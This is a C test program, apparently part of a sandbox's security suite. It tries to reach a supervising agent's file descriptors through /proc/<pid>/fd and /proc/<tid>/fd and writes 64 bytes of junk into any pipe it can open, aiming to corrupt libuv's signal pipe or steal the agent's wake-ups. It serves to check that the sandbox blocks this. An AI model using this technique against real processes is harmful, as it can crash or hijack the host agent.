// Attack: reach the agent's own descriptors through /proc/<agent>/fd/N and
// the same table through each agent thread's /proc/<tid>/fd/N
// (docs/security.md, "Emulated opens"). Writing 64 bytes into libuv's signal
// pipe makes Node dereference a pointer the workload chose; reading from the
// agent's pipes would steal its wake-ups. Every descriptor number is tried,
// for writing and for reading.
//   agent-fds
// Prints how many of the agent's files it opened and how many pipes it wrote
// to, then lingers so a crash of the agent has happened before it exits.
#include "agent-tasks.h"

#include <sys/stat.h>
#include <time.h>

int main(void) {
  pid_t tasks[MAX_TASKS + 1];
  const int count = 1 + find_agent(&tasks[0], tasks + 1, MAX_TASKS);
  say("agent-tasks %d", count);
  long opened = 0, written = 0, read_opened = 0;
  char garbage[64];
  memset(garbage, 0x41, sizeof(garbage));
  for (int t = 0; t < count; t++) {
    for (int n = 0; n < 1024; n++) {
      char path[64];
      snprintf(path, sizeof(path), "/proc/%d/fd/%d", tasks[t], n);
      int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
      if (fd >= 0) {
        opened++;
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode) && write(fd, garbage, sizeof(garbage)) > 0) written++;
        close(fd);
      }
      fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      if (fd >= 0) {
        read_opened++;
        close(fd);
      }
    }
  }
  say("opened-write %ld", opened);
  say("opened-read %ld", read_opened);
  say("pipes-written %ld", written);
  struct timespec pause = {0, 300 * 1000 * 1000};
  nanosleep(&pause, NULL);
  say("finished ok");
  return 0;
}
